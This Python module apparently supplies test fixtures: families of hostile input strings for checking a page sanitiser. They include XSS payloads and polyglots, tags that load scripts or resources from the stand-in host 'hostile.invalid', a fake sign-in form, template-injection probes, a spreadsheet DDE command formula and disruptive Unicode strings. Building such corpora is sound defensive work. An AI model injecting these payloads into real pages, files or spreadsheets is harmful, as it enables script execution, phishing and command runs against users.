"""Texts that try to run, to fetch, to lead away, or to break a page: families of our own writing."""

HOST = "hostile.invalid"
RUN = f"alert('ran');fetch('//{HOST}/ran')"
_LONG = 200_000

TAGS = (
    f"<script>{RUN}</script>",
    f"</p></section></main><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ScRiPt/x src=//{HOST}/a.js></sCrIpT>",
    f"<script>/*<!--<script>*/{RUN}//--></script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></select></option><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<template><script>{RUN}</script></template><iframe srcdoc="<script>{RUN}</script>"></iframe>',
)
ATTRIBUTES = (
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN.replace(chr(39), chr(34))}'>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN.replace(chr(39), chr(34))}",
    f"x onload={RUN}",
    f'`" onerror=`{RUN}`',
    f'<details open ontoggle="{RUN}">a</details>',
    f'<video><source onerror="{RUN}"></video>',
    f'<input autofocus onfocus="{RUN}">',
    f'<body onload="{RUN}">',
    f'<marquee onstart="{RUN}">a</marquee>',
    f'<p hx-on:load="{RUN}" hx-get="//{HOST}/hx" hx-trigger="load">a</p>',
    '" data-key="d" x="',
)
FOREIGN = (
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>here</text></a></svg>',
    f"<svg><image href=//{HOST}/a.png></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<math href="javascript:{RUN}">here</math>',
    f"<svg></p><style><a id=\"</style><img src=x onerror='{RUN.replace(chr(39), chr(34))}'>\">",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt&colon;{RUN}",
    f"java\tscript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f'<a href="javascript:{RUN}">here</a>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f"<embed src=//{HOST}/a.swf>",
    "vbscript:msgbox(1)",
)
FETCHES = (
    f"<img src=//{HOST}/pixel.gif>",
    f'<img srcset="//{HOST}/a.png 1x, //{HOST}/b.png 2x">',
    f"<link rel=stylesheet href=//{HOST}/a.css>",
    f"<style>@import '//{HOST}/b.css';body{{background:url(//{HOST}/c.png)}}</style>",
    f'<p style="background:url(//{HOST}/d.png);position:fixed;inset:0">a</p>',
    f'<meta http-equiv=refresh content="0;url=//{HOST}/away">',
    f"<base href=//{HOST}/><img src=a.png>",
    f"<form action=//{HOST}/form><button autofocus>Sign in again</button></form>",
    f"<button form=verdict formaction=//{HOST}/verdict>Deliver</button>",
    f"<video poster=//{HOST}/p.png><audio src=//{HOST}/a.mp3 autoplay>",
    f"<link rel=prefetch href=//{HOST}/n><link rel=preconnect href=//{HOST}>",
)
TEMPLATES = (
    "{{7*7}}{{config}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>[[7*7]]{{constructor.constructor('alert(1)')()}}",
    "%(num)d %s %n {0} {name!r}",
)
POLYGLOTS = (
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
    f"'\"><!--<img src=x onerror={RUN}>--><svg/onload={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u003cscript\u003e{RUN}\uff1cscript\uff1e",
)
SHAPES = (
    "right to left \u202e gnp.exe \u2067 and never closed",
    "a\u0301" + "\u0317\u0301\u0359\u0363" * 300 + " piled up",
    "\x00null\x00 and \x1b[31mescape\x07\x08",
    "\udcff lone surrogate".encode("utf-8", "surrogateescape").decode("utf-8", "replace"),
    "W" * _LONG,
    "\u200b".join("zero" for _ in range(2_000)),
    "\u2028line\u2029paragraph\ufeff\u00ad",
    "\ufdfd" * 40 + "\U0001f469\u200d" * 60 + "\u1160" * 40,
    "<br>" * 50 + "<h1>" * 50,
)
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+9)*cmd", "\t=1+1", "\r=1+1", "\uff1d1+1", "\u200b=1+1")
RUNNING = (*TAGS, *ATTRIBUTES, *FOREIGN, *ADDRESSES, *FETCHES, *POLYGLOTS)
"""What tries to do something; the others try to be in the way."""
EVERY = (*RUNNING, *TEMPLATES, *SHAPES, *FORMULAS)
